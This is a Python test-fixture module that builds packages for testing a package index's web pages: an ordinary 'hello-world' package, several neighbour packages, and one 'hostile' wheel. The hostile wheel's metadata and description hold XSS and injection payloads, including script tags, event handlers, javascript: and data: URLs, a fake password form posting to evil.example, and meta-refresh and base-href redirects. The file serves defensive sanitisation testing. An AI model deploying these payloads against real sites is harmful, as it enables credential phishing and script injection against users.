"""Packages whose pages are looked at, by tests and in the documents' images: an ordinary one, many small
ones, and one that attacks each field.
"""

from __future__ import annotations

from collections.abc import Iterator

from tests.builders import make_sdist, make_wheel

File = tuple[str, bytes]

_DESCRIPTION = """\
# Hello, world

[![build](https://img.example/badge.svg)](https://ci.example) ![logo](https://img.example/logo.png)

A small library that **greets**. It has no dependencies and works on every system.

## Usage

```python
from hello_world import greet

def main() -> None:
    print(greet("world", times=2))  # Hello, world! Hello, world!
```

| Option  | Meaning     | Default |
|---------|-------------|---------|
| `times` | how often   | `1`     |
| `shout` | in capitals | `False` |

- [x] greets
- [ ] waves

> Say it once, and mean it.

See [the documents](https://docs.example/hello) or [how to use it](#usage).
"""
_HEADERS = (
    ("Summary", "A friendly greeting, in many languages and for every occasion"),
    ("License-Expression", "MIT"),
    ("Author-email", '"Jane Doe" <jane@example.com>'),
    ("Maintainer", "The Acme platform team"),
    ("Maintainer-email", "platform@example.com"),
    ("Keywords", "greeting,hello"),
    ("Project-URL", "Homepage, https://hello.example"),
    ("Project-URL", "Documentation, https://docs.example/hello"),
    ("Project-URL", "Source, https://git.example/acme/hello"),
    ("Classifier", "Development Status :: 5 - Production/Stable"),
    ("Classifier", "Operating System :: OS Independent"),
    ("Classifier", "Programming Language :: Python :: 3.12"),
    ("Classifier", "Programming Language :: Python :: 3.13"),
    ("Provides-Extra", "tz"),
    ("Description-Content-Type", "text/markdown"),
)
_REQUIRES = ("greetings>=2,<3", 'colorama>=0.4; sys_platform == "win32"', 'tzdata; extra == "tz"')
_TAGS = (
    "py3-none-any",
    "cp312-cp312-manylinux_2_17_x86_64.manylinux2014_x86_64",
    "cp312-cp312-macosx_11_0_arm64",
    "cp313-cp313-win_amd64",
)
_SUMMARIES = {
    "acme-auth": "Sign-in and sessions for all of Acme's services",
    "acme-billing": "Invoices, taxes and currencies",
    "acme-cli": "The command line of the Acme platform",
    "acme-data": "Tables and time series, with types",
    "acme-forecast": "What the weather does to sales",
    "greetings": "Greetings in eighty languages",
}


def ordinary() -> Iterator[File]:
    """The files of hello-world: a stable version, an older one, a pre-release, and one to be yanked (1.0)."""
    for version, tags in (("0.9", 1), ("1.0", 1), ("1.2.0", 4), ("2.0rc1", 1)):
        for tag in _TAGS[:tags]:
            yield make_wheel(
                "hello-world",
                version,
                tag,
                requires=_REQUIRES,
                requires_python=">=3.11",
                extra_headers=_HEADERS,
                body=_DESCRIPTION,
            )
        yield make_sdist("hello-world", version, requires_python=">=3.11", extra_headers=_HEADERS)


def neighbours(count: int = 0) -> Iterator[File]:
    """Files of other projects: six with summaries, and `count` more."""
    for name, summary in _SUMMARIES.items():
        yield make_wheel(name, "2.1", extra_headers=[("Summary", summary)])
    for number in range(count):
        yield make_wheel(f"project-{number:03}", "1.0")


_ATTACK = "\"'><img src=https://evil.example/a.png onerror=hacked=1><script>hacked=1</script>{{7*7}}"
_HOSTILE = f"""\
# {_ATTACK}

<script>hacked=1</script><style>body {{ display: none }}</style>
<iframe src="https://evil.example/"></iframe><img src="https://evil.example/b.png">
<form action="https://evil.example/" method="post"><input name="password"><button>Sign in</button></form>
<div class="bar hero notice" id="main" style="position: fixed; inset: 0">Sign in at evil.example</div>
<a href="javascript:hacked=1">script</a> <a href="data:text/html,x">data</a> <a href="/local/">this site</a>
<svg onload="hacked=1"></svg><object data="https://evil.example/"></object>
<link rel="stylesheet" href="https://evil.example/a.css"><meta http-equiv="refresh" content="0;https://evil.example/">
<base href="https://evil.example/"></div></section></main></body></html>

![image](https://evil.example/c.png) [link](javascript:hacked=1) [![x](https://evil.example/d.png)](vbscript:x)
"""


def hostile() -> File:
    """A wheel whose fields attack the page that shows them."""
    headers = [
        ("Summary", _ATTACK),
        ("License-Expression", _ATTACK),
        ("Author", _ATTACK),
        ("Author-email", f'"{_ATTACK}" <a@evil.example>'),
        ("Maintainer-email", "javascript:hacked=1"),
        ("Keywords", _ATTACK),
        ("Classifier", f"{_ATTACK} :: {_ATTACK}"),
        ("Provides-Extra", _ATTACK),
        ("Requires-Dist", _ATTACK),
        ("Project-URL", "Script, javascript:hacked=1"),
        ("Project-URL", "Data, data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg=="),
        ("Project-URL", f"{_ATTACK[:20]}, https://evil.example/"),
        ("Project-URL", 'Quoted, https://evil.example/"onmouseover=hacked=1'),
        ("Home-page", "javascript:hacked=1"),
        ("Description-Content-Type", "text/markdown"),
    ]
    return make_wheel("hostile", "1.0", extra_headers=headers, body=_HOSTILE)
